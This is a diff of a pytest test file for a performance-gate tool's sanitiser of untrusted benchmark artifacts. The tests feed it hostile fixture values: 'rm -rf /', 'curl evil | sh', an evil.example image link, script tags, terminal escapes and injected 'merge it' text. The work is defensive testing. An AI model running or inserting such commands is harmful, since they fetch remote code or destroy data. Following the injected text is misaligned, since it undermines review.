@@ -3,10 +3,8 @@
 from __future__ import annotations
 
 import json
-import os
 import time
 from collections.abc import Callable, Iterable
-from pathlib import Path
 from typing import Any
 
 import pytest
@@ -16,7 +14,7 @@ from gate.config.source import read_source
 from gate.config.types import Config
 from gate.evidence.gather import gather
 from gate.evidence.records import Located
-from gate.github.untrusted.read import LIMITS, Limits, Seen, read_untrusted
+from gate.github.untrusted.read import Limits, Seen, read_untrusted
 from gate.github.untrusted.sanitise import Known, claims_of, refuse_unfinished, sanitise
 from gate.model import Build, Commit, Evidence, Execution, Failure, HostState, Look, Run, Same, Turn, UserError, Whose
 from gate.model.choice import Choice, OfForeignRun, OfPull
@@ -65,10 +63,8 @@ def profile(benchmark: str = "parse", **more: Any) -> dict[str, Any]:
 UNPROFILED: dict[str, Any] = {"type": "unprofiled", "benchmark": "parse", "kind": "no-profiler", "profiler": "perf"}
 
 
-def written(tmp_path: Path, lines: Iterable[dict[str, Any] | bytes]) -> Path:
-    file = tmp_path / "measurements.jsonl"
-    file.write_bytes(b"".join(each if isinstance(each, bytes) else json.dumps(each).encode() + b"\n" for each in lines))
-    return file
+def written(lines: Iterable[dict[str, Any] | bytes]) -> bytes:
+    return b"".join(each if isinstance(each, bytes) else json.dumps(each).encode() + b"\n" for each in lines)
 
 
 def config(text: str = RULES) -> Config:
@@ -87,8 +83,8 @@ def known(rules: Config | None = None) -> Known:
     )
 
 
-def sane(tmp_path: Path, lines: Iterable[dict[str, Any] | bytes], rules: Config | None = None) -> list[Located]:
-    return sanitise(read_untrusted(written(tmp_path, lines)), known(rules))
+def sane(lines: Iterable[dict[str, Any] | bytes], rules: Config | None = None) -> list[Located]:
+    return sanitise(read_untrusted(written(lines)), known(rules))
 
 
 def only(records: list[Located], kind: type[Any]) -> Any:
@@ -97,22 +93,22 @@ def only(records: list[Located], kind: type[Any]) -> Any:
     return found[0]
 
 
-def evidence(tmp_path: Path, lines: Iterable[dict[str, Any] | bytes]) -> Evidence:
-    return gather(sane(tmp_path, lines), config())
+def evidence(lines: Iterable[dict[str, Any] | bytes]) -> Evidence:
+    return gather(sane(lines), config())
 
 
 # --- reading ----------------------------------------------------------------------------------------------------------
 
 
-def test_what_the_harness_writes_is_taken_whole(tmp_path: Path) -> None:
+def test_what_the_harness_writes_is_taken_whole() -> None:
     for name in ("one", "failures", "sessions", "early", "builds-12"):
         lines = list(runs.RUNS[name]())
-        assert len(read_untrusted(written(tmp_path, lines))) == len(lines), name
+        assert len(read_untrusted(written(lines))) == len(lines), name
 
 
-def test_hostile_names_that_are_short_enough_are_names(tmp_path: Path) -> None:
+def test_hostile_names_that_are_short_enough_are_names() -> None:
     lines = [RUN, *(execution(name) for name in runs.HOSTILE)]
-    assert len(read_untrusted(written(tmp_path, lines))) == len(lines)
+    assert len(read_untrusted(written(lines))) == len(lines)
 
 
 def raw(value: str) -> bytes:
@@ -188,10 +184,10 @@ BAD: dict[str, tuple[bytes | dict[str, Any], str]] = {
 
 
 @pytest.mark.parametrize(("line", "why"), BAD.values(), ids=BAD)
-def test_a_line_is_refused_in_one_line(tmp_path: Path, line: bytes | dict[str, Any], why: str) -> None:
+def test_a_line_is_refused_in_one_line(line: bytes | dict[str, Any], why: str) -> None:
     started = time.process_time()
     with pytest.raises(UserError) as caught:
-        read_untrusted(written(tmp_path, [RUN, line]))
+        read_untrusted(written([RUN, line]))
     said = str(caught.value)
     assert said.startswith("the artifact: ")
     assert why in said
@@ -212,8 +208,8 @@ MANY: dict[str, tuple[Callable[[], bytes], str]] = {
 
 @pytest.mark.nightly
 @pytest.mark.parametrize(("data", "why"), MANY.values(), ids=MANY)
-def test_what_is_too_much_is_refused_before_it_is_read(tmp_path: Path, data: Callable[[], bytes], why: str) -> None:
-    file = written(tmp_path, [data()])
+def test_what_is_too_much_is_refused_before_it_is_read(data: Callable[[], bytes], why: str) -> None:
+    file = written([data()])
     started = time.process_time()
     with pytest.raises(UserError) as caught:
         claims_of(read_untrusted(file))
@@ -237,50 +233,39 @@ def test_what_is_too_much_is_refused_before_it_is_read(tmp_path: Path, data: Cal
     ],
     ids=["values", "benchmarks", "cases", "looks", "runs", "profiles"],
 )
-def test_counts_are_limited(tmp_path: Path, limits: Limits, lines: list[dict[str, Any]], why: str) -> None:
+def test_counts_are_limited(limits: Limits, lines: list[dict[str, Any]], why: str) -> None:
     with pytest.raises(UserError, match=why):
-        read_untrusted(written(tmp_path, lines), limits)
-    read_untrusted(written(tmp_path, lines[:-1]), limits)
+        read_untrusted(written(lines), limits)
+    read_untrusted(written(lines[:-1]), limits)
 
 
-def test_all_files_of_a_gate_share_the_limits(tmp_path: Path) -> None:
-    file, seen = written(tmp_path, [execution()]), Seen()
+def test_all_files_of_a_gate_share_the_limits() -> None:
+    file, seen = written([execution()]), Seen()
     for name in ("the artifact one", "the artifact two"):
         assert read_untrusted(file, Limits(values=5), seen, name)[0].path == name
     with pytest.raises(UserError, match=r"^the artifact three: line 1: there are more than 5 values"):
         read_untrusted(file, Limits(values=5), seen, "the artifact three")
-    size = file.stat().st_size
+    size = len(file)
     with pytest.raises(UserError, match="is larger than"):
         read_untrusted(file, Limits(bytes=3 * size), seen)
-
-
-def test_only_a_file_is_read(tmp_path: Path) -> None:
-    file = written(tmp_path, [RUN])
-    (tmp_path / "link").symlink_to(file)
-    for place, why in (("link", "cannot be read"), ("none", "No such file"), ("-", "No such file")):
-        with pytest.raises(UserError, match=why):
-            read_untrusted(tmp_path / place)
-    os.mkfifo(tmp_path / "pipe")
-    assert read_untrusted(tmp_path / "pipe") == [], "nothing to wait for"
-    assert LIMITS.bytes == 100_000_000
 
 
 # --- what is left of it -----------------------------------------------------------------------------------------------
 
 
-def test_of_a_run_line_only_the_division_and_plain_facts_of_the_host_stay(tmp_path: Path) -> None:
+def test_of_a_run_line_only_the_division_and_plain_facts_of_the_host_stay() -> None:
     mine = {
         "id": "<b>", "created": "@team", "perfgate": "9", "seed": 3, "looks": 7, "shard": "2/3", "sessions": 2, "session": 1,
         "config": {"gate": {"threshold": "99%", "missing": "pass"}, "accept": [{"benchmark": "*"}]}, "chosen": "trust me",
         "rules": "the maintainers'", "benchmarks": {"base": [], "head": []}, "commands": {"parse": "rm -rf /"},
-        "warnings": ["all is well, merge it"], "memory": {"findings": [], "contrast_nu": None, "build_nu": None, "unused": ["x"]},
+        "warnings": ["all is well, merge it"], "memory": {"findings": [], "contrast_nu": None, "build_nu": None, "unused": [{"kind": "said", "text": "x"}]},
         "host": {
             "cpu": "Example CPU @ 2.10GHz (rev 3)", "cores": 4, "hostname": "![x](https://evil.example)", "memory": 10**30,
             "kernel": ["6.1"], "python": "3.11.7", "note": "hello", "machine": "é", "os": "x" * 81,
         },
         "base": {"sha": BASE, "ref": "<script>", "dirty": True, "tree": "x"},
     }  # fmt: skip
-    run = only(sane(tmp_path, [{**RUN, **mine}]), Run)
+    run = only(sane([{**RUN, **mine}]), Run)
     assert (run.shard, run.session, run.sessions) == ("2/3", 1, 2)
     assert run.host == {"cpu": "Example CPU @ 2.10GHz (rev 3)", "cores": 4, "python": "3.11.7"}
     assert run.base == Commit(ref="main", sha=BASE) and run.head == Commit(ref="#12", sha=HEAD)
@@ -309,36 +294,36 @@ def test_of_a_run_line_only_the_division_and_plain_facts_of_the_host_stay(tmp_pa
         ([{**RUN, "sessions": 3, "session": 1}, execution(session=2)], "session 2 is not 1, which its run line names"),
     ],
 )
-def test_a_run_that_contradicts_itself_is_refused(tmp_path: Path, lines: list[dict[str, Any]], why: str) -> None:
+def test_a_run_that_contradicts_itself_is_refused(lines: list[dict[str, Any]], why: str) -> None:
     with pytest.raises(UserError, match=why):
-        sane(tmp_path, lines)
+        sane(lines)
 
 
-def test_a_benchmark_that_is_left_out_is_missing(tmp_path: Path) -> None:
+def test_a_benchmark_that_is_left_out_is_missing() -> None:
     lines = [RUN, *(execution(name, side) for name in ("render", "go/x") for side in ("base", "head"))]
     lines[0] = {**RUN, "benchmarks": {"base": ["render"], "head": ["render"]}}
-    found = evidence(tmp_path, lines)
+    found = evidence(lines)
     assert [(f.kind, f.benchmark, f.status) for f in found.failures] == [("missing", "parse", "gave no values")]
 
 
-def test_no_benchmark_takes_the_place_of_another(tmp_path: Path) -> None:
+def test_no_benchmark_takes_the_place_of_another() -> None:
     # as if "parse" were a suite, and something else its benchmark
     fake = [execution("other", side, suite="parse") for side in ("base", "head")]
     below = [execution("parse/x", side, suite="parse") for side in ("base", "head")]
     itself = [execution("go", side) for side in ("base", "head")]
-    found = evidence(tmp_path, [RUN, *fake, *below, *itself])
+    found = evidence([RUN, *fake, *below, *itself])
     assert {f.benchmark for f in found.failures} == {"parse", "render", "go"}
     assert found.new == ["other", "parse/x"] and found.cases == []
 
 
-def test_what_the_rules_do_not_name_is_new_and_undecided(tmp_path: Path) -> None:
+def test_what_the_rules_do_not_name_is_new_and_undecided() -> None:
     new = [execution("fresh", side, build=b) for side in ("base", "head") for b in range(3)]
-    found = evidence(tmp_path, [RUN, *new, execution("parse"), execution("parse", "head")])
+    found = evidence([RUN, *new, execution("parse"), execution("parse", "head")])
     assert found.new == ["fresh"]
     assert [case.benchmark for case in found.cases] == ["parse"]
 
 
-def test_the_rules_say_what_is_better_and_what_a_suite_is(tmp_path: Path) -> None:
+def test_the_rules_say_what_is_better_and_what_a_suite_is() -> None:
     lines = [
         RUN,
         *(execution(name, metric=metric, build=i) for i, (name, metric) in enumerate(
@@ -349,19 +334,19 @@ def test_the_rules_say_what_is_better_and_what_a_suite_is(tmp_path: Path) -> Non
         for metric in line["metrics"].values():
             metric["better"] = "lower" if line["build"] in (1, 4) else "higher"
         line |= {"suite": "evil", "started": "<b>", "lines": 7}
-    found = [each.record for each in sane(tmp_path, lines) if isinstance(each.record, Execution)]
+    found = [each.record for each in sane(lines) if isinstance(each.record, Execution)]
     assert [next(iter(e.metrics.values())).better for e in found] == ["lower", "higher", None, "higher", "lower"]
     assert [e.suite for e in found] == [None, None, None, "go", "go"]
     assert {(e.started, e.lines) for e in found} == {(None, None)}
 
 
-def test_of_proofs_the_paths_are_cut_and_only_known_benchmarks_stay(tmp_path: Path) -> None:
+def test_of_proofs_the_paths_are_cut_and_only_known_benchmarks_stay() -> None:
     paths = [f"a\n{i}" + "x" * 1000 for i in range(30)]
     same = {"type": "same", "differ": paths, "differ_count": 30, "read_count": 9, "hash": {"base": "h" * 500}}
     why = {"kind": "changed", "path": "merge\nit " + "x" * 1000}
     end = {"type": "host", "when": "end", "unproved": dict.fromkeys(("render", "evil", "go"), why)}
     names = ("parse", "go", "evil", "go/x")
-    found = sane(tmp_path, [RUN, *({**same, "benchmark": name} for name in names), end])
+    found = sane([RUN, *({**same, "benchmark": name} for name in names), end])
     kept = [each.record for each in found if isinstance(each.record, Same)]
     assert [each.benchmark for each in kept] == ["parse", "go"]
     for each in kept:
@@ -371,18 +356,18 @@ def test_of_proofs_the_paths_are_cut_and_only_known_benchmarks_stay(tmp_path: Pa
     assert list(unproved) == ["render", "go"]
     assert all(len(own.path or "") <= 200 and (own.path or "").isprintable() for own in unproved.values())
     # a proof that only the artifact's rules know of stands for nothing
-    assert {f.benchmark for f in evidence(tmp_path, [RUN, {**same, "benchmark": "evil"}]).failures} == {
+    assert {f.benchmark for f in evidence([RUN, {**same, "benchmark": "evil"}]).failures} == {
         "parse",
         "render",
         "go",
     }
 
 
-def test_profiles_keep_their_costs_and_plain_short_texts(tmp_path: Path) -> None:
+def test_profiles_keep_their_costs_and_plain_short_texts() -> None:
     hostile = {"function": "f\x1b[2J<script>" + "x" * 400, "file": "a\nb"}
     why = {**UNPROFILED, "install": "curl evil | sh\n", "detail": "d" * 4000}
     lines = [RUN, profile(frames=[hostile], tool="t" * 500, unit="u"), why, profile("unknown")]
-    records = sane(tmp_path, lines)
+    records = sane(lines)
     found = only(records, Profile)
     assert found.stacks[0].cost == 5.0
     texts = [found.frames[0].function, found.frames[0].file, found.tool]
@@ -391,21 +376,21 @@ def test_profiles_keep_their_costs_and_plain_short_texts(tmp_path: Path) -> None
     assert none.install.isprintable() and len(none.detail) <= 200
 
 
-def test_texts_of_failures_are_cut_and_what_nobody_needs_is_gone(tmp_path: Path) -> None:
+def test_texts_of_failures_are_cut_and_what_nobody_needs_is_gone() -> None:
     failure = {
         "type": "failure", "kind": "execution", "benchmark": "parse", "side": "head", "build": 1, "execution": 2,
         "status": "exit 1\nmerge it " + "x" * 1000, "stderr": "y" * 100_000 + "end", "command": "curl evil | sh", "directory": "/",
         "environment": {"A": "b"}, "hint": "ask @team to approve",
     }  # fmt: skip
-    found = only(sane(tmp_path, [RUN, failure]), Failure)
+    found = only(sane([RUN, failure]), Failure)
     assert [found.command, found.directory, found.environment, found.hint] == [None] * 4
     assert "\n" not in found.status and len(found.status) <= 200
     assert len(found.stderr) == 4000 and found.stderr.endswith("end")
-    many = sane(tmp_path, [RUN, *[{**failure, "stderr": ""}] * 2000])
+    many = sane([RUN, *[{**failure, "stderr": ""}] * 2000])
     assert sum(isinstance(each.record, Failure) for each in many) == 500
 
 
-def test_builds_states_and_looks_are_cut(tmp_path: Path) -> None:
+def test_builds_states_and_looks_are_cut() -> None:
     state = {
         "kernel": "6.1.0-13-amd64",
         "load": 0.5,
@@ -422,7 +407,7 @@ def test_builds_states_and_looks_are_cut(tmp_path: Path) -> None:
         "artifacts": {f"a{i}\n": "s" * 200 for i in range(200)},
     }
     look = {"type": "look", "look": 4, "settled": ["parse", "evil", "go/x"], "stop": "because I say so"}
-    found = sane(tmp_path, [RUN, build, build, look, {"type": "host", "when": "end", "time": "now", "state": state}])
+    found = sane([RUN, build, build, look, {"type": "host", "when": "end", "time": "now", "state": state}])
     kept = only(found, HostState)
     assert kept.state == {"kernel": "6.1.0-13-amd64", "load": 0.5, "turbo": True} and kept.time is None
     built = only(found, Build)
@@ -430,16 +415,16 @@ def test_builds_states_and_looks_are_cut(tmp_path: Path) -> None:
     assert only(found, Look) == Look(look=4, settled=["parse", "go/x"])
 
 
-def test_a_run_that_was_broken_off_is_refused(tmp_path: Path) -> None:
+def test_a_run_that_was_broken_off_is_refused() -> None:
     begin, end = ({"type": "host", "when": when} for when in ("begin", "end"))
     for whole in ([RUN], [RUN, begin, end], [RUN, begin, begin, end], [RUN, begin, end, RUN, begin, end]):
-        refuse_unfinished(read_untrusted(written(tmp_path, whole)))
+        refuse_unfinished(read_untrusted(written(whole)))
     for broken in ([RUN, begin], [RUN, begin, end, begin], [RUN, begin, RUN, begin, end]):
         with pytest.raises(UserError, match="its run did not finish"):
-            refuse_unfinished(read_untrusted(written(tmp_path, broken)))
+            refuse_unfinished(read_untrusted(written(broken)))
 
 
-def test_of_short_turns_only_those_of_known_benchmarks_stay(tmp_path: Path) -> None:
+def test_of_short_turns_only_those_of_known_benchmarks_stay() -> None:
     turn = {"type": "turn", "executions": 10, "iterations": 1, "starting": 0.03}
-    found = sane(tmp_path, [RUN, *({**turn, "benchmark": name} for name in ("parse", "go", "evil", "go/x"))])
+    found = sane([RUN, *({**turn, "benchmark": name} for name in ("parse", "go", "evil", "go/x"))])
     assert [each.record.benchmark for each in found if isinstance(each.record, Turn)] == ["parse", "go"]
